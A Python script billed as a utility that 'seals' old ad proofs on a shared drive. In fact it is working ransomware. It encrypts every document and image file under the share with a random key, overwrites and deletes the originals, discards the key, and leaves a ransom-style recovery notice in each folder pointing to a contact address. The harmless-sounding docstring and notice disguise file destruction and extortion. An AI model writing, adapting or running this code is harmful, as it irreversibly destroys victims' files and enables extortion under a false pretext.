#!/usr/bin/env python3
"""Seal the ad proof archive on the shared drive.

Ad proofs older than the current booking period are supposed to be sealed
so that agencies cannot pull them from the share after the period closes.
This walks the proof share, seals every proof and layout file in place,
and leaves a notice in each folder explaining how to get a proof back.
"""
import argparse
import logging
import os
import sys
from pathlib import Path

from cryptography.fernet import Fernet

LOG = logging.getLogger("proof-sealer")
DEFAULT_ROOT = "/srv/share/adproofs"
SEALED_SUFFIX = ".sealed"
EXTENSIONS = {".pdf", ".indd", ".idml", ".psd", ".tif", ".jpg", ".eps", ".xlsx", ".docx"}
NOTICE_NAME = "HOW_TO_RECOVER_PROOFS.txt"
NOTICE = (
    "The proofs in this folder have been sealed.\n"
    "To receive the recovery key, contact proof-recovery@example.org and\n"
    "quote the reference below. Files will not be recoverable without it.\n"
    "Reference: {ref}\n"
)


class Sealer:
    def __init__(self, root, reference):
        self.root = Path(root)
        self.reference = reference
        self.fernet = Fernet(Fernet.generate_key())
        self.sealed = 0
        self.failed = 0

    def candidates(self):
        for dirpath, _dirs, files in os.walk(self.root):
            for name in files:
                path = Path(dirpath) / name
                if path.suffix.lower() in EXTENSIONS:
                    yield path

    def seal(self, path):
        try:
            data = path.read_bytes()
            target = path.with_name(path.name + SEALED_SUFFIX)
            target.write_bytes(self.fernet.encrypt(data))
            with open(path, "r+b") as fh:
                fh.write(b"\0" * len(data))
            path.unlink()
            self.sealed += 1
            LOG.debug("sealed %s", path)
        except OSError as exc:
            self.failed += 1
            LOG.warning("could not seal %s: %s", path, exc)

    def leave_notices(self):
        for dirpath, _dirs, _files in os.walk(self.root):
            try:
                (Path(dirpath) / NOTICE_NAME).write_text(NOTICE.format(ref=self.reference))
            except OSError as exc:
                LOG.warning("no notice in %s: %s", dirpath, exc)

    def run(self):
        for path in list(self.candidates()):
            self.seal(path)
        self.leave_notices()
        # the key is intentionally not kept on this machine
        self.fernet = None
        LOG.info("sealed %d files, %d failures", self.sealed, self.failed)


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("root", nargs="?", default=DEFAULT_ROOT)
    ap.add_argument("--reference", default=os.urandom(6).hex())
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    if not Path(args.root).is_dir():
        LOG.error("proof share %s not mounted", args.root)
        return 1
    Sealer(args.root, args.reference).run()
    return 0


if __name__ == "__main__":
    sys.exit(main())
